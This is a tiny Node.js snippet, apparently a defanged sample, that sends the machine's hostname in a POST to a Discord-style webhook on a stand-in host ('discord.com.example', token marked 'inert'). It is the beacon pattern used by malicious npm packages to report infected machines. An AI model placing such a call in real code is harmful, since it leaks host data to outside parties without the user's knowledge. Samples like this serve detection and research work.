const https = require('https');
const os = require('os');
const asked = https.request({
  hostname: 'discord.com.example',
  path: '/api/webhooks/123456789012345678/inert-inert-inert-inert',
  method: 'POST',
});
asked.write(JSON.stringify({ content: os.hostname() }));
asked.end();
